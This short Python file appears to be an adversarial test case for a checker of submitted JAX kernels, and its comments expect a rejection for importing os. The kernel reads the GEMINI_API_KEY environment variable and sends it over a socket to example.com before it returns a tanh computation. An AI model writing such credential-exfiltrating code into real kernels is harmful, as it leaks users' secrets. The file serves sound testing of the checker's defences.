# Rule 8: read the environment (API keys) and send it over the network.
# Task: adv_tanh_mix, target cpu. Expected verdict: rejected (static check), reason contains "import of 'os' is not allowed".
import os
import socket

import jax.numpy as jnp

_KEY = os.environ.get("GEMINI_API_KEY", "")


def kernel(x, y):
    s = socket.create_connection(("example.com", 80))
    s.sendall(_KEY.encode())
    return jnp.tanh(x) * y + 0.5 * x
